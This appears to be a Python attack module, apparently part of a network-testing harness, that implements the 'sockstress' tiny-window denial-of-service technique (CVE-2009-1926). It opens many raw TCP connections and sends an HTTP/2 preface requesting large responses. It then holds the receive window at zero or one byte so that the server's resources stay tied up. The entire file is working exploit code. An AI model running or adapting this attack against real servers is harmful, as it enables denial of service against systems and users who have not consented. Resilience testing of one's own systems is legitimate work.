#!/usr/bin/python3
"""Tiny windows (CVE-2009-1926, "sockstress"): connections that ask for large answers and then let a byte through at a time, close
the window over what is in flight, or leave it closed and only answer the probes."""
import struct

from attacker import call, h2
from tcp_attacker import ACK, PSH, RST, SYN, Hosts, main

MARK = ("net.tcp_zero_window_probes",)
ENDED = False
CONNECTIONS = 60


def attack(run):
    hosts, conns = Hosts(run, 20), {}
    wide = struct.pack(">HI", 4, 2**31 - 1)
    hello = h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0, wide) + h2.frame(h2.WINDOW, 0, 0, (2**31 - 70000).to_bytes(4, "big"))
    hello += b"".join(call(s, reply_bytes=100000) for s in range(1, 8, 2))
    while run.going():
        while len(conns) < CONNECTIONS:
            host, port = hosts.rng.choice(hosts.addresses), hosts.rng.randint(1024, 65535)
            conns[host, port] = None
            hosts.syn(host, port, 1000, window=3000)
        for host, port, seq, ack, flags, _, payload in hosts.take():
            if (host, port) not in conns:
                continue
            if flags & RST:
                del conns[host, port]
                continue
            if flags & SYN:
                conns[host, port] = [ack + len(hello), (seq + 1) & 0xffffffff]
                hosts.segment(host, port, ack, seq + 1, ACK | PSH, payload=hello, window=3000)
            elif conns[host, port] and payload:
                mine = conns[host, port]
                take = port % 3  # none, one byte, or all of it but then no more
                if seq == mine[1]:
                    mine[1] = (seq + (0 if take == 0 else 1 if take == 1 else len(payload))) & 0xffffffff
                hosts.segment(host, port, mine[0], mine[1], ACK, window=1 if take == 1 else 0)
    for (host, port), mine in conns.items():
        if mine:
            hosts.segment(host, port, mine[0], mine[1], RST | ACK)


if __name__ == "__main__":
    main(attack)
